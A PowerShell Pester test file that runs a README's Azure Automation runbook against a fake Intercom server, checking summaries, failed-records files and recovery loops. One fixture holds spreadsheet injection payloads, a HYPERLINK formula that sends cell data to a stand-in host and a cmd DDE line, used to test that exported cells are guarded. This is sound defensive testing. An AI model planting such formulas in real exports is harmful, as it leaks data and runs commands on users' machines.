#Requires -Modules @{ ModuleName = 'Pester'; ModuleVersion = '5.0.0' }
<#
    The README's Azure Automation section, its code run as printed. Azure Automation's own commands
    (Get-AutomationPSCredential, Get-AutomationVariable, Set-AutomationVariable,
    Start-AzAutomationRunbook) are stand-ins defined here, as functions of the same names; the
    module, Import-Csv and Select-Object are the real ones.
    How the suite runs and what runs where: tests/Pester/README.md.
#>

BeforeAll {
    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
    Import-ModuleUnderTest

    # Azure Automation's commands, as a sandbox job sees them.
    function Get-AutomationPSCredential {
        param([Parameter(Mandatory)] [string] $Name)
        $script:CredentialsAsked += @($Name)
        New-Object System.Management.Automation.PSCredential ('not-used', (Get-FakeToken $fake))
    }
    function Get-AutomationVariable {
        param([Parameter(Mandatory)] [string] $Name)
        $script:AutomationVariables[$Name]
    }
    function Set-AutomationVariable {
        param([Parameter(Mandatory)] [string] $Name, [Parameter(Mandatory)] $Value)
        $script:AutomationVariables[$Name] = $Value
    }
    function Start-AzAutomationRunbook {
        param([string] $AutomationAccountName, [string] $ResourceGroupName, [Parameter(Mandatory)] [string] $Name)
        $script:JobsStarted += @("$ResourceGroupName/$AutomationAccountName/$Name")
    }

    <# A CSV of contact ids (contact_id, first_name) for the fake: the ones it has, and those it has not yet. #>
    function New-ContactFile {
        param([string] $Path, [string[]] $Id)
        New-TextFile $Path -LineEnding CRLF -Line (@('contact_id,first_name') + @($Id | ForEach-Object { "$_,Customer $_" })) | Out-Null
        $Path
    }

    function Remove-FailedRecordFile {
        param($Run)
        if ($Run -and $Run.FailedRecordsPath) { Remove-Item -LiteralPath $Run.FailedRecordsPath -ErrorAction SilentlyContinue }
    }
}

AfterAll {
    Remove-ModuleUnderTest
}

Describe 'The README''s runbook, -Summary and the failed rows re-run' {
    BeforeAll {
        $fake = Open-FakeIntercomSession
        $present = 1..120 | ForEach-Object { 'r{0:D3}' -f $_ }
        $missing = 1..110 | ForEach-Object { 'm{0:D3}' -f $_ }
        Add-FakeContact $fake @($present | ForEach-Object { @{ id = $_ } })
        # Rows of contacts the workspace does not have yet, among the others: each fails (404), and
        # there are more than the 100 errors a summary keeps, so the failed-records file is written.
        $ids = for ($i = 0; $i -lt 120; $i++) { $present[$i]; if ($i -lt 110) { $missing[$i] } }
        $csvPath = New-ContactFile (Join-Path $TestDrive 'contacts.csv') $ids
        $script:CredentialsAsked = @()
        $runs = New-Object System.Collections.Generic.List[object]
        # The README's runbook has no -FailedRecordsPath: its file goes to the module's folder in temp.
        $folderBefore = Get-FailedRecordFolderState
    }
    AfterAll {
        $runs | ForEach-Object { Remove-FailedRecordFile $_ }
        Restore-FailedRecordFolder $folderBefore
        Close-FakeIntercomSession $fake
    }

    It 'runs as printed: one summary, the error counts, every failed row in the file' {
        $code = Get-ReadmeCode -Containing 'Connect-Intercom -Credential (Get-AutomationPSCredential -Name Intercom) -Region EU'

        $output = @(. ([scriptblock]::Create($code)))
        $runs.Add($run)

        $script:CredentialsAsked | Should -Be 'Intercom'
        (Get-IntercomConnection).BaseUri | Should -Be $fake.BaseUri
        $output.Count | Should -Be 2
        $output[0] | Should -Be $run
        $output[1] | Should -Be '100 x IntercomContactNotFound'
        "$($run.Status)" | Should -Be 'Completed'
        $run.Received, $run.Succeeded, $run.Failed, $run.NotProcessed, $run.Handled | Should -Be 230, 120, 110, 0, 230
        $run.Errors.Count | Should -Be 100
        $run.ErrorsNotKept | Should -Be 10
        # Every failed row, as it came, in the file.
        $failedRows = @(Import-Csv $run.FailedRecordsPath)
        $failedRows.contact_id | Should -Be $missing
        $failedRows[0].first_name | Should -Be 'Customer m001'
        # The fake: every present contact opted in, one write each; none for the others.
        $choices = Get-FakeChoices $fake
        @($present | Where-Object { $choices[$_]['108'] -ne 'opt_in' }).Count | Should -Be 0
        @($missing | Where-Object { $choices.Contains($_) }).Count | Should -Be 0
        Get-FakeCallCount $fake 'POST /contacts/{id}/subscriptions' | Should -Be 230
    }

    It 'prints its summary as the README shows it' {
        $printed = @(Get-MarkdownCodeBlock (Join-Path (Get-RepositoryRoot) 'README.md') |
                Where-Object { $_.Language -eq '' -and $_.Code -match '^Command\s+: Add-IntercomContactSubscription' })
        $printed.Count | Should -Be 1
        $readmeNames = @($printed[0].Code -split "`n" | ForEach-Object { ($_ -split ':', 2)[0].Trim() })
        $realNames = @(($runs[0] | Format-List | Out-String -Width 300) -split "`r?`n" | Where-Object { $_ -match '^\S.*?\s:' } | ForEach-Object { ($_ -split ':', 2)[0].Trim() })

        $realNames | Should -Be $readmeNames
    }

    It 're-runs the kept errors'' rows with $run.Errors | ForEach-Object TargetObject | Add-…, once the contacts exist' {
        Add-FakeContact $fake @($missing | ForEach-Object { @{ id = $_ } })
        Reset-FakeCall $fake
        $run = $runs[0]

        $again = @($run.Errors | ForEach-Object TargetObject | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in)

        $again.ContactId | Should -Be ($missing | Select-Object -First 100)
        Get-FakeCallCount $fake 'POST /contacts/{id}/subscriptions' | Should -Be 100
    }

    It 're-runs every failed row with Import-Csv $run.FailedRecordsPath | Add-…' {
        Reset-FakeCall $fake
        $run = $runs[0]

        $rerun = Import-Csv $run.FailedRecordsPath | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary

        $rerun.Succeeded, $rerun.Failed | Should -Be 110, 0
        $choices = Get-FakeChoices $fake
        @($missing | Where-Object { $choices[$_]['108'] -ne 'opt_in' }).Count | Should -Be 0
        Get-FakeCallCount $fake 'POST /contacts/{id}/subscriptions' | Should -Be 110
    }

    It 'wrote its file readable by its owner only, in a folder only its owner can open' -Skip:($IsWindows -or $PSVersionTable.PSVersion.Major -lt 7) {
        $path = $runs[0].FailedRecordsPath
        Split-Path -Parent $path | Should -Be (Get-FailedRecordFolder)
        [Convert]::ToString([int] (Get-Item -LiteralPath $path).UnixFileMode, 8) | Should -Be '600'
        [Convert]::ToString([int] (Get-Item -LiteralPath (Get-FailedRecordFolder)).UnixFileMode, 8) | Should -Be '700'
    }

    It 'leaves no file in the temp directory once the runs'' own files are removed' {
        $runs | ForEach-Object { Remove-FailedRecordFile $_ }

        ((Get-FailedRecordFolderState).Files -join ', ') | Should -Be ($folderBefore.Files -join ', ')
    }
}

Describe 'The README''s recovery loop: each pass re-runs the file the last one wrote' {
    BeforeAll {
        # A sandbox job's temp directory: where the README's loop puts its files.
        $savedTemp = $env:TEMP
        $env:TEMP = "$TestDrive"
        $fake = Open-FakeIntercomSession
        # Records of every shape a runbook pipes in: CSV rows of two shapes, hashtables, plain strings
        # (emails and ids), and values a spreadsheet would run or that begin with what the file guards.
        $mixed = @(
            1..60 | ForEach-Object { [pscustomobject]@{ email = "csv$_@example.com"; note = "row $_" } }
            1..25 | ForEach-Object { @{ contact_id = "ht$_" } }
            1..10 | ForEach-Object { "plain$_@example.com" }
            1..10 | ForEach-Object { "pid$_" }
            [pscustomobject]@{ email = '-dash@example.com'; note = '=HYPERLINK("http://x.example/?d="&A1,"click")' }
            [pscustomobject]@{ email = '+plus@example.com'; note = "+1+cmd|' /C calc'!A0" }
            [pscustomobject]@{ email = "'quote@example.com"; note = '@SUM(A1:A2)' }
            [pscustomobject]@{ external_id = '-u-7'; team = 'ops' }
            @{ external_id = '@u-8' }
        )
        $emails = @(1..60 | ForEach-Object { "csv$_@example.com" }) + @(1..10 | ForEach-Object { "plain$_@example.com" }) + '-dash@example.com', '+plus@example.com', "'quote@example.com"
        $contacts = @(
            for ($i = 0; $i -lt $emails.Count; $i++) { @{ id = "em$i"; email = $emails[$i] } }
            1..25 | ForEach-Object { @{ id = "ht$_" } }
            1..10 | ForEach-Object { @{ id = "pid$_" } }
            @{ id = 'ex7'; external_id = '-u-7' }
            @{ id = 'ex8'; external_id = '@u-8' }
        )
        Add-FakeContact $fake $contacts
        # Every change of the first pass gets a 503, and the first 7 of the second: three passes.
        Connect-Intercom -Credential (Get-AutomationPSCredential -Name Intercom) -Region EU -MaxRetries 0
        $null = Set-FakeKnob $fake @{ Scripted = @(@{ status = 503; method = 'POST'; pathContains = '/subscriptions'; times = $mixed.Count + 7 }) }
    }
    AfterAll {
        Close-FakeIntercomSession $fake
        $env:TEMP = $savedTemp
    }

    It 'keeps every record of every shape through three passes, Import-Csv reading each file' {
        $printed = Get-ReadmeCode -Containing 'FailedRecordsPath (Join-Path $env:TEMP "failed-$pass.csv")'
        # The one change to the printed code: the first pass's records are the mixed ones, not a CSV's rows.
        ([regex]::Matches($printed, [regex]::Escape('$rows = Import-Csv $csvPath'))).Count | Should -Be 1
        $loop = [scriptblock]::Create($printed.Replace('$rows = Import-Csv $csvPath', '$rows = $mixed'))

        $said = @(. $loop)

        $count = $mixed.Count
        # A 503 after the request was sent leaves its change in doubt (Intercom may have applied it); the file has it, to send again.
        $said | Should -Be "Pass 1: 0 applied, 0 failed, $count in doubt", "Pass 2: $($count - 7) applied, 0 failed, 7 in doubt", 'Pass 3: 7 applied, 0 failed, 0 in doubt'
        $choices = Get-FakeChoices $fake
        @($contacts | Where-Object { $choices[$_.id]['108'] -ne 'opt_in' }).Count | Should -Be 0
        # Every record was in the first file, under the union of the shapes' columns, its cells guarded.
        $first = @(Import-Csv (Join-Path $TestDrive 'failed-1.csv'))
        $first.Count | Should -Be $count
        $first[0].PSObject.Properties.Name -join ',' | Should -Be 'email,note,contact_id,ContactId,external_id,team,IntercomErrorId,IntercomErrorMessage'
        @(Import-Csv (Join-Path $TestDrive 'failed-2.csv')).Count | Should -Be 7
        @(Import-Csv (Join-Path $TestDrive 'failed-3.csv')).Count | Should -Be 0
        $text = Get-Content -Raw (Join-Path $TestDrive 'failed-1.csv')
        $text | Should -Not -Match 'System\.Collections'
        $text | Should -Match ([regex]::Escape('"''=HYPERLINK('))
        $text | Should -Match ([regex]::Escape('"''-dash@example.com"'))
    }
}

Describe 'A temp folder that cannot be written' {
    BeforeAll {
        $fake = Open-FakeIntercomSession
        Add-FakeContact $fake @(1..20 | ForEach-Object { @{ id = "ok$_" } })
    }
    AfterAll {
        Close-FakeIntercomSession $fake
    }

    It 'is a warning and a note in the summary, and the run goes on and reports every change' {
        $nowhere = Join-Path $TestDrive 'no-such-temp'
        $result = Invoke-FreshPwsh -Environment @{ TMPDIR = $nowhere; TEMP = $nowhere; TMP = $nowhere; FAKE_URI = "$($fake.BaseUri)"; FAKE_TOKEN = $fake.Token; MANIFEST = (Get-ManifestUnderTest) } -Command @'
Import-Module $env:MANIFEST
Connect-Intercom -BaseUri $env:FAKE_URI -Token (ConvertTo-SecureString $env:FAKE_TOKEN -AsPlainText -Force)
$rows = @(1..105 | ForEach-Object { [pscustomobject]@{ contact_id = "gone$_" } }) + @(1..20 | ForEach-Object { [pscustomobject]@{ contact_id = "ok$_" } })
$rows | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -SummaryVariable run -ErrorAction SilentlyContinue -WarningVariable warned | Measure-Object | ForEach-Object { "output: $($_.Count)" }
"status: $($run.Status)"
"counts: $($run.Succeeded) $($run.Failed) $($run.Errors.Count) $($run.ErrorsNotKept)"
"path: [$($run.FailedRecordsPath)]"
"warned: $($warned.Count)"
"note: $($run.Notes)"
'@

        $lines = $result.Output -split "`r?`n"
        $lines | Should -Contain 'output: 20'
        $lines | Should -Contain 'status: Completed'
        $lines | Should -Contain 'counts: 20 105 100 5'
        $lines | Should -Contain 'path: []'
        $lines | Should -Contain 'warned: 1'
        @($lines | Where-Object { $_ -like 'note: Could not write the failed records to the folder*no-such-temp*' }).Count | Should -Be 1
        $choices = Get-FakeChoices $fake
        @(1..20 | Where-Object { $choices["ok$_"]['108'] -ne 'opt_in' }).Count | Should -Be 0
    }
}

Describe 'The README''s 3-hour pattern: the offset loop over several jobs' {
    BeforeAll {
        # 400 rows at 80 requests a second take about 5 s: with the time limit at 2 s the file is
        # split over several jobs, each resuming where the last one's Handled ended.
        $fake = Open-FakeIntercomSession
        $ids = 1..400 | ForEach-Object { 'o{0:D3}' -f $_ }
        Add-FakeContact $fake @($ids | ForEach-Object { @{ id = $_ } })
        $null = Set-FakeKnob $fake @{ RateLimit = 80; RateLimitWindowSeconds = 1 }
        $csvPath = New-ContactFile (Join-Path $TestDrive 'big.csv') $ids
        $account = 'ops-automation'; $group = 'rg-ops'; $runbookName = 'Intercom-OptIn'
        $script:AutomationVariables = @{ IntercomOffset = 0 }
        $script:JobsStarted = @()
    }
    AfterAll {
        Close-FakeIntercomSession $fake
    }

    It 'runs job after job until the file is done, every row applied, the offsets adding up' {
        $printed = Get-ReadmeCode -Containing 'Get-AutomationVariable -Name IntercomOffset'
        # The one change to the printed code: a time limit of seconds, not 2 hours 40 minutes.
        ([regex]::Matches($printed, [regex]::Escape('-TimeLimit 2:40:00'))).Count | Should -Be 1
        $job = [scriptblock]::Create($printed.Replace('-TimeLimit 2:40:00', '-TimeLimit 0:00:02'))

        $summaries = @()
        do {
            $jobsBefore = $script:JobsStarted.Count
            Connect-Intercom -Credential (Get-AutomationPSCredential -Name Intercom) -Region EU
            $summaries += @(. $job)
            Disconnect-Intercom
        } while ($script:JobsStarted.Count -gt $jobsBefore -and $summaries.Count -lt 15)

        $summaries.Count | Should -BeGreaterThan 1
        $summaries.Count | Should -BeLessThan 15
        @($summaries | Select-Object -SkipLast 1 | ForEach-Object { "$($_.Status)" } | Select-Object -Unique) | Should -Be 'TimeLimitReached'
        "$($summaries[-1].Status)" | Should -Be 'Completed'
        $script:JobsStarted | Should -Be (@("rg-ops/ops-automation/Intercom-OptIn") * ($summaries.Count - 1))
        $script:AutomationVariables['IntercomOffset'] | Should -Be 400
        ($summaries | Measure-Object Handled -Sum).Sum | Should -Be 400
        # Each job received the rows after the offset it read: Select-Object -Skip did its part.
        $offset = 0
        foreach ($summary in $summaries) {
            $summary.Received | Should -Be (400 - $offset)
            $offset += $summary.Handled
        }
        $choices = Get-FakeChoices $fake
        @($ids | Where-Object { $choices[$_]['108'] -ne 'opt_in' }).Count | Should -Be 0
        # A row in flight when the time ran out may be sent again by the next job (Add is idempotent), no more.
        $writes = Get-FakeCallCount $fake 'POST /contacts/{id}/subscriptions'
        $writes | Should -BeGreaterOrEqual 400
        $writes | Should -BeLessOrEqual (400 + 128 * ($summaries.Count - 1))
    }
}

Describe 'The README''s -SummaryVariable: the summary after a stop' {
    BeforeAll {
        $fake = Start-FakeIntercom -ArgumentList '--latency-ms', '100'
        $ids = 1..300 | ForEach-Object { 's{0:D3}' -f $_ }
        Add-FakeContact $fake @($ids | ForEach-Object { @{ id = $_ } })
        $csvPath = New-ContactFile (Join-Path $TestDrive 'contacts.csv') $ids
    }
    AfterAll {
        Stop-FakeIntercom $fake
    }

    It 'says Stopped and how far it got after the pipeline is stopped (Ctrl+C, Stop)' {
        $shell = [powershell]::Create([System.Management.Automation.Runspaces.InitialSessionState]::CreateDefault2())
        try {
            $null = $shell.AddScript({
                    param($Manifest, $BaseUri, $Token, $CsvPath)
                    Import-Module $Manifest
                    Connect-Intercom -BaseUri $BaseUri -Token $Token
                    Import-Csv $CsvPath | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -SummaryVariable run
                }).AddParameters(@{ Manifest = (Get-ManifestUnderTest); BaseUri = $fake.BaseUri; Token = (Get-FakeToken $fake); CsvPath = $csvPath })
            $running = $shell.BeginInvoke()
            $deadline = [DateTime]::UtcNow.AddSeconds(60)
            while ((Get-FakeCallCount $fake 'POST /contacts/{id}/subscriptions') -lt 40 -and [DateTime]::UtcNow -lt $deadline) { Start-Sleep -Milliseconds 100 }

            $shell.Stop()

            $running.IsCompleted | Should -BeTrue
            $run = $shell.Runspace.SessionStateProxy.GetVariable('run')
            "$($run.Status)" | Should -Be 'Stopped'
            $run.Succeeded | Should -BeGreaterThan 0
            $run.Handled | Should -BeLessThan 300
            # What the summary calls done was done: every succeeded row is applied on the fake.
            $applied = @((Get-FakeChoices $fake).Keys).Count
            $applied | Should -BeGreaterOrEqual $run.Succeeded
        }
        finally {
            $shell.Runspace.Dispose()
            $shell.Dispose()
        }
    }
}
